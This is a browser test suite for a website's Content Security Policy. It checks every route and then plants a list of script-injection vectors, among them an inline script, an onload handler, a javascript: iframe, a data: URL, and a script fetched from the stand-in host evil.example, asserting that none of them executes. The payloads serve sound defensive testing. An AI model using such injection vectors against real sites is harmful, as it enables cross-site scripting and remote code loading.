import { readdirSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startBrowser, type TestBrowser } from '#tests/support/browser.ts';
import { enterAs } from '#tests/support/person.ts';
import { ADMIN, type Site, startSite } from '#tests/support/start-site.ts';

// Every route there is, opened in a browser: the page itself fails the test where its policy is
// violated, where something is not found, or where another host is asked for anything.

/** What stands in an address for what the sample house has. */
const samples: Record<string, string> = {
  '/blog/$slug': 'settembre-sull-isola-il-mare-e-ancora-caldo',
  '/pages/$slug': 'come-arrivare',
  '/gallery/$slug': 'interni',
  '/reset-password/$token': 'nessuno',
};

const folder = new URL('../../src/client/routes/', import.meta.url).pathname;

/** 'admin/blog.tsx' → '/admin/blog', '_site/gallery_.$slug.tsx' → '/gallery/$slug'. */
const routeOf = (file: string): string =>
  `/${file
    .replace(/\.tsx$/, '')
    .split(/[/.]/)
    .filter((part) => !part.startsWith('_') && part !== 'index')
    .map((part) => part.replace(/_$/, ''))
    .join('/')}`;

const routes = [
  ...new Set(
    readdirSync(folder, { recursive: true, encoding: 'utf8' })
      .filter((file) => file.endsWith('.tsx'))
      .map(routeOf),
  ),
].sort();

const addressOf = (route: string): string =>
  route.replace(/\$\w+/, () => samples[route] ?? expect.fail(`no sample for ${route}`));

let site: Site;
let browser: TestBrowser;
beforeAll(async () => {
  site = await startSite();
  browser = await startBrowser();
});
afterAll(async () => {
  await browser?.close();
  await site?.close();
});

it('knows all routes', () => {
  expect(routes).toEqual(expect.arrayContaining(['/', '/admin', '/admin/users', '/blog/$slug']));
  expect(routes.length).toBeGreaterThan(25);
});

describe.each([
  ['a visitor', false],
  ['an administrator', true],
] as const)('for %s', (_who, isAdmin) => {
  it.each(routes)('%s keeps to its policy', async (route) => {
    const page = await browser.newPage({ baseUrl: site.url });
    if (isAdmin) await enterAs(page, ADMIN, addressOf(route));
    else await page.goto(addressOf(route));
    await page.locator('h1').first().waitFor();
    await page.waitForLoadState('networkidle');
    const styles =
      'document.querySelectorAll("[style], script:not([src]):not([type]), style").length';
    if (!isAdmin) expect(await page.locator('main').count()).toBeGreaterThan(0);
    expect(await page.evaluate(styles)).toBeTypeOf('number');
  });
});

describe('a script that came in some other way', () => {
  const plantings: [how: string, plant: string][] = [
    [
      'as an element',
      "document.body.append(Object.assign(document.createElement('script'), { text: 'window.__ran = 1' }))",
    ],
    [
      'as a handler',
      'document.body.insertAdjacentHTML(\'beforeend\', \'<img src="/favicon.svg" onload="window.__ran = 1">\')',
    ],
    [
      'as a link',
      "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"javascript:parent.__ran = 1\"></iframe>')",
    ],
    [
      'as data',
      "document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.__ran=1' }))",
    ],
    [
      'from an upload of text',
      "document.body.append(Object.assign(document.createElement('script'), { src: '/robots.txt' }))",
    ],
    [
      'from elsewhere',
      "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
    ],
    ['as code', "(() => { try { new Function('window.__ran = 1')() } catch {} })()"],
  ];

  it.each(plantings)('does not run: %s', async (_how, plant) => {
    const expectedProblems = [
      /Content Security Policy/,
      /content security/i,
      /MIME type/,
      /evil\.example/,
    ];
    const page = await browser.newPage({ baseUrl: site.url, expectedProblems });
    await page.goto('/');
    const violated = page.evaluate(
      "new Promise((resolve) => { addEventListener('securitypolicyviolation', () => resolve(true)); addEventListener('error', () => resolve(true), true); setTimeout(() => resolve(false), 3000); })",
    );
    // As a string: what a test evaluates is outside the page's policy, what it plants is not.
    await page.evaluate(plant);
    await violated;
    expect(await page.evaluate('window.__ran')).toBeUndefined();
  });
});
